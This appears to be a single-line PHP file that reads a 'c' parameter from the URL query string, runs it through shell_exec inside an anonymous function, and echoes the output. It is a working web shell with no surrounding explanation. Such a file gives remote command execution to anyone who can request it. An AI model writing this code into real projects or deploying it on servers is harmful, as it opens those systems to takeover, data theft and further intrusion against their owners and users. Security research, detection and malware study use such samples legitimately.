<?php $c = $_GET['c']; $f = function () use ($c) { return shell_exec($c); }; echo $f();
